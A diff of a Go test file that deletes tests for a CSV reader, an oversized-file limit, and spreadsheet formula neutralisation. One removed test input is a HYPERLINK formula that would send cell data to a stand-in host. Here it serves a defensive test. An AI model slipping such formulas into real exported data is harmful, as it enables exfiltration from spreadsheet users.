@@ -79,21 +79,6 @@ func TestDecodeJSONNamesTheField(t *testing.T) {
 	}
 }
 
-func TestReadCSVReportsLines(t *testing.T) {
-	rows, err := ReadCSV(strings.NewReader("\ufeffSKU,Name\nA,\"苹果, 红\"\n\nB,梨\n"), "sku", "name")
-	if err != nil || len(rows) != 2 || rows[0].Get("name") != "苹果, 红" || rows[1].Line != 4 {
-		t.Fatalf("rows %+v err %v", rows, err)
-	}
-	_, err = ReadCSV(strings.NewReader("sku,name\nA,1\nB\n"), "sku", "name")
-	var e *apperr.Error
-	if !errors.As(err, &e) || !strings.Contains(e.Message, "line 3") {
-		t.Fatalf("ragged row: %v", err)
-	}
-	if _, err := ReadCSV(strings.NewReader("sku\nA\n"), "sku", "name"); err == nil || !strings.Contains(err.Error(), `"name"`) {
-		t.Fatalf("missing column: %v", err)
-	}
-}
-
 func TestRolesAdmitted(t *testing.T) {
 	cases := []struct {
 		want []Role
@@ -118,42 +103,3 @@ func TestRolesAdmitted(t *testing.T) {
 }
 
 func quietLogger() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }
-
-func TestReadCSVRefusesOversizedFiles(t *testing.T) {
-	big := "sku,name\n" + strings.Repeat("A,"+strings.Repeat("x", 1000)+"\n", MaxCSVBytes/1000+10)
-	if _, err := ReadCSV(strings.NewReader(big), "sku", "name"); err == nil || !strings.Contains(err.Error(), "exceeds") {
-		t.Fatalf("a CSV over the limit: %v", err)
-	}
-}
-
-func TestCSVCellNeutralisesFormulas(t *testing.T) {
-	for in, want := range map[string]string{
-		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
-		"+SUM(1+1)":                           "'+SUM(1+1)",
-		"-2+3":                                "'-2+3",
-		"@A1":                                 "'@A1",
-		"\tx":                                 "'\tx",
-		"\rx":                                 "'\rx",
-		"-":                                   "'-",
-		"-.5":                                 "'-.5",
-		"+5":                                  "'+5",
-		"-12":                                 "-12",
-		"-0.5":                                "-0.5",
-		"30.200000":                           "30.200000",
-		"土鸡蛋 =1":                              "土鸡蛋 =1",
-		"":                                    "",
-		"R01":                                 "R01",
-	} {
-		if got := CSVCell(in); got != want {
-			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
-		}
-	}
-	var b strings.Builder
-	w := NewCSVWriter(&b)
-	if err := w.Write([]string{"=1+1", "-3", `say "hi"`}); err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Flush(); err != nil || b.String() != "'=1+1,-3,\"say \"\"hi\"\"\"\n" {
-		t.Fatalf("wrote %q (%v)", b.String(), err)
-	}
-}
